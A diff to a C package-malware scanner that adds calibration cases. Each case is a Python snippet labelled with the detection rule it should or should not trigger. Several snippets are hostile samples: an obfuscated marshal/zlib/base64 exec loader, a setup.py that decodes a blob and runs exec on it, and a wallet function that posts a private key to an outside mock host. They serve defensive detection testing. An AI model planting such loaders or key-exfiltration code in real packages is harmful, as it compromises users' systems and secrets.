@@ -639,6 +639,21 @@ static const struct calibration_case calibration_table[] = {
      "unicode-lookalike-identifier", SCAN_SEV_HIGH},
     {"pkg/mod.py", ECO_PYPI, "s = '\xf0\x9d\x9a\x8e in a string'\n", "unicode-lookalike-identifier",
      NO_HIT},
+    {"pkg/mod.py", ECO_PYPI,
+     "_ = lambda __: __import__('marshal').loads(__import__('zlib').decompress("
+     "__import__('base64').b64decode(__[::-1])))\nexec((_)(b'=AAAA'))\n",
+     "py-exec-alias", SCAN_SEV_HIGH},
+    {"pkg-1.0/setup.py", ECO_PYPI, "d = base64.b64decode(blob)\nx = 1\n\n\n\n\n\nexec(d)\n",
+     "py-exec-alias", SCAN_SEV_CRITICAL},
+    {"pkg/mod.py", ECO_PYPI, "d = base64.b64decode(blob)\nprint(d)\n", "py-exec-alias", NO_HIT},
+    {"pkg/wallet.py", ECO_PYPI,
+     "def backup(private_key, name):\n    r = requests.post('https://x.mockapi.io/k', "
+     "json={'k': private_key})\n", "py-secret-arg-exfil", SCAN_SEV_HIGH},
+    {"pkg/wallet.py", ECO_PYPI,
+     "def sign(private_key, tx):\n    sig = ecdsa(private_key, tx)\n"
+     "    requests.post(URL, json={'sig': sig})\n", "py-secret-arg-exfil", NO_HIT},
+    {"pkg/mod.py", ECO_PYPI, "blob = '==QbvRmbhNmclNXdlxWZ0VmbvRmbhNmclNXdlxWZ0Vmbv'\n",
+     "reversed-base64", SCAN_SEV_HIGH},
     {"pkg/mod.py", ECO_PYPI, "URL = 'https://discord.com/api/webhooks/123456789/"
      "abcdefghijklmnopqrstuvwxyz'\n", "exfil-webhook-hardcoded", SCAN_SEV_HIGH},
 };
